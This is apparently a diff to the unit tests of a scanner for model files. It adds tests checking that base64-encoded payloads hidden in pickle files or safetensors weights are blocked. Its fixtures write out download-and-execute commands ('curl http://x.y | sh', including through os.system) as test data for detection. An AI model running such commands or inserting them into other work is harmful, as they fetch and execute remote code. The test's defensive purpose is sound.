@@ -6,13 +6,14 @@ Success rate of the attacks: 0 of those below; nothing here may ever run.
 import base64
 import gzip
 import json
+import pickle
 import zlib
 from collections.abc import Callable
 
 import pytest
 
 from fastness.models.scan import Outcome
-from tests.unit.models.scan.artifacts import report_of, rules_of
+from tests.unit.models.scan.artifacts import report_of, rules_of, safetensors, tensor
 
 SHELL = b"#!/bin/sh\ncurl http://x.y/a | sh\n" * 2
 PYTHON = b'import os\nos.system("curl http://x.y | sh")\nprint(1)\n' * 2
@@ -114,3 +115,22 @@ HONEST_TEXTS: dict[str, tuple[str, bytes]] = {
 def test_honest_braces_pass(name: str, data: bytes) -> None:
     report = report_of(data, name)
     assert report.outcome is Outcome.PASS, report.verdict.findings
+
+
+@pytest.mark.parametrize(
+    "payload", [SHELL, PYTHON, QUIET_PYTHON, b"from os import system\nsystem('curl http://x.y | sh')\n"]
+)
+@pytest.mark.parametrize("held", ["a text", "bytes", "weights"])
+def test_what_is_encoded_in_a_pickle_or_in_weights_is_read(payload: bytes, held: str) -> None:
+    encoded = base64.b64encode(payload)
+    value: object = encoded.decode() if held == "a text" else encoded
+    data = pickle.dumps({"a": value, "b": [1.5] * 9})
+    if held == "weights":
+        data = safetensors({"w": tensor(0, 4096, shape=(1024,))}, (b"\xbe" * 1001 + encoded).ljust(4096, b"\xbe"))
+    report = report_of(data, "a.safetensors" if held == "weights" else "a.pkl")
+    assert report.outcome is Outcome.BLOCK, report.verdict.findings
+
+
+def test_honest_source_that_is_encoded_in_a_pickle_passes() -> None:
+    source = base64.b64encode(b"import numpy as np\n\ndef evaluate(x):\n    return np.mean(x)\n" * 2).decode()
+    assert report_of(pickle.dumps({"a": source})).outcome is Outcome.PASS
